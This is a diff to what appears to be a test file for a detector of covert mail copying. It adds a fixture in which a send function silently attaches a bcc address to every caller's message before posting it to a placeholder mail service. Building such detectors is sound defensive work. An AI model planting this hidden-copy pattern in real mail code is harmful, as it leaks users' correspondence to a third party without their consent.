@@ -28,6 +28,13 @@ examine(copiesMail, {
       },
     },
     {
+      when: 'a service of mail is given what the caller gives, and a copy beside it',
+      files: {
+        'index.js': `exports.send = message => { const body = { from: 'a@own.invalid', bcc: 'inert@copy.invalid', ...message }; return fetch('https://mail.invalid/email', { method: 'POST', body: JSON.stringify(body) }); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the copy is added to the mail of the caller',
       files: {
         'index.js': `${MAILER} exports.send = (o, mail) => { mail.bcc = 'inert@copy.invalid'; return mailer.createTransport(o).sendMail(mail); }`,
